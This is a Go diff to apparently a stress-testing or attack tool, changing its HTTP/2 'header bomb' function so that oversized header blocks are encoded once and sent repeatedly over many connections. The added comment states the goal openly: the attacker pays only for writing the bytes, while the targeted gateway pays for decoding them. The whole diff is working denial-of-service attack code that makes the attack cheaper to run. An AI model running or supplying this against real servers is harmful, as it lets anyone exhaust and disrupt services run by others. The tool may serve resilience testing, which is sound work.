@@ -427,6 +427,12 @@ func h2HeaderBomb(conns, perWorker int) attackFunc {
 		bomb[i] = bombField
 	}
 	return func(ctx context.Context, t *Target, h *held, st *Stats) {
+		// Encoded once: the attacker's cost is writing the bytes, the
+		// gateway's is reading and decoding them.
+		blocks := [2][]byte{
+			encodeOnce(append(requestFields(indexPath, t.Auth), literal...)),
+			encodeOnce(append(requestFields(indexPath, t.Auth), bomb...)),
+		}
 		workers(conns, func(w int) {
 			for i := 0; i < perWorker && ctx.Err() == nil; i++ {
 				c, err := t.dialH2(ctx, 0)
@@ -437,13 +443,9 @@ func h2HeaderBomb(conns, perWorker int) attackFunc {
 				st.Conns.Add(1)
 				h.add(c)
 				h.reader(c, st)
-				extra := literal
-				if (w+i)%2 == 1 {
-					extra = bomb
-				}
-				fields := append(requestFields(indexPath, t.Auth), extra...)
+				block := blocks[(w+i)%2]
 				for j := 0; j < 50 && ctx.Err() == nil; j++ {
-					if _, err := c.sendHeaders(deadlineOf(ctx), fields, true); err != nil {
+					if _, err := c.sendBlock(deadlineOf(ctx), block, true); err != nil {
 						if !isTimeout(err) {
 							st.Cut.Add(1)
 						}
